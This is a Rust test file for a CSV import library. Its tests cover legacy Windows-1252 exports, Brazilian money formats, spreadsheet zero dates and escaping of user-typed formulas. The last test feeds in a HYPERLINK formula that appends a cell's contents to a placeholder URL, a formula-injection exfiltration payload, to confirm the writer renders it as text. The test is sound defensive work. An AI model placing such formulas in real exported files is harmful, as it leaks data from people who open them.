//! Faults that people who import registers have reported, each with its right answer, on invented lines.

use jiff::civil::date;
use sheet::{
    Absence, Cell, CellKind, CellRules, CellValue, ColumnSpec, DateOrder, Encoding, Reader, Reason, Record,
    SafeCsv, detect, match_header, parse_cell, preview,
};

/// BL-50: a file in Windows-1252 is read as such, its header is found though spaces are doubled, sums read with `R$`, and
/// what will be saved can be seen before.
#[test]
fn accents_and_sums_of_an_old_export_are_read() {
    let mut bytes = Vec::new();
    for line in [
        "Data  Assinatura;Contratado;Objeto;Valor do  Instrumento\r\n",
        "03/01/2023;JOÃO FICTÍCIO E IRMÃOS LTDA;Informática ^ licença;R$ 8.887,00\r\n",
        "17/02/2023;CONCEIÇÃO FICTÍCIA ME;Manutenção ^ peças;R$ 120,50\r\n",
    ] {
        // every letter here is one byte in that encoding, at its code point; the en dash is byte 0x96
        bytes.extend(line.chars().map(|c| if c == '^' { 0x96 } else { u8::try_from(u32::from(c)).unwrap() }));
    }
    let dialect = detect(&bytes);
    assert_eq!((dialect.encoding, dialect.delimiter), (Encoding::Windows1252, b';'));

    let (mut header, mut rows): (Vec<String>, Vec<Vec<String>>) = (Vec::new(), Vec::new());
    let mut reader = Reader::new(&dialect);
    let mut sink = |record: Record<'_>| match record {
        Record::Header(row) => header = row.iter().map(str::to_owned).collect(),
        Record::Row(row) => rows.push(row.iter().map(str::to_owned).collect()),
        Record::Bad(row) => panic!("{row}"),
    };
    reader.feed(&bytes, &mut sink);
    reader.finish(&mut sink);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][1], "JOÃO FICTÍCIO E IRMÃOS LTDA");
    assert_eq!(rows[0][2], "Informática – licença");

    let specs = [
        ColumnSpec { id: "valor", names: &["valor do instrumento"], kind: CellKind::Money },
        ColumnSpec { id: "assinatura", names: &["data assinatura"], kind: CellKind::Date },
    ];
    let found = match_header(header.iter().map(String::as_str), &specs, None);
    assert_eq!((found.position(0), found.position(1)), (Some(3), Some(0)), "{:?}", found.remarks);
    let rules = CellRules::of(&dialect, date(1900, 1, 1)..=date(2046, 12, 31));
    assert_eq!(parse_cell(CellKind::Money, &rows[0][3], &rules), Cell::Value(CellValue::Money(888_700)));
    assert_eq!(parse_cell(CellKind::Money, &rows[1][3], &rules), Cell::Value(CellValue::Money(12_050)));
    assert_eq!(preview(&bytes, &dialect, 10).rows.len(), 2);
}

/// BL-51: the zero date of a spreadsheet is a missing date; a date that cannot be is told apart from it; neither is guessed.
#[test]
fn zero_dates_are_missing_and_impossible_ones_are_named() {
    let bytes = b"placa,primeiro_emplacamento\nAAA1A11,1899-12-30\nBBB2B22,2214-08-20\nCCC3C33,2019-05-02\n";
    let dialect = detect(bytes);
    assert_eq!(dialect.date_order, DateOrder::Iso);
    let rules = CellRules::of(&dialect, date(1900, 1, 1)..=date(2046, 12, 31));
    let day = |text: &'static str| parse_cell(CellKind::Date, text, &rules);
    for zero in ["1899-12-30", "1899-12-31", "1900-01-00"] {
        assert_eq!(day(zero), Cell::Missing(Absence::ZeroDate), "{zero}");
    }
    for (text, year) in [("2214-08-20", 2214), ("2502-03-01", 2502)] {
        match day(text) {
            Cell::Impossible(Reason::ImplausibleDate { found, .. }) => assert_eq!(found.ymd().0, year),
            other => panic!("{text}: {other:?}"),
        }
    }
    assert!(
        matches!(day("2019-05-02"), Cell::Value(CellValue::Date(d)) if d.civil() == Some(date(2019, 5, 2)))
    );
}

/// BL-52: what the public typed opens as text in a spreadsheet, and a telephone number still reads.
#[test]
fn a_formula_typed_by_the_public_opens_as_text() {
    let mut csv = SafeCsv::new();
    csv.row(["reclamação", "telefone"]);
    csv.row(["=HYPERLINK(\"http://exemplo.invalid?\"&A1,\"abrir\")", "+55 51 0000-0000"]);
    let written = String::from_utf8(csv.take()).unwrap();
    let line = written.lines().nth(1).unwrap();
    let opens = |cell: &str| cell.trim_start_matches('"').starts_with(['=', '+', '-', '@', '\t', '\r']);
    let (first, second) = line.split_once("abrir").unwrap();
    assert!(!opens(first), "{line}");
    assert!(second.contains("+55 51 0000-0000"), "{line}");
    let phone = second.rsplit([';', ',']).next().unwrap();
    assert!(!opens(phone), "{line}");
}
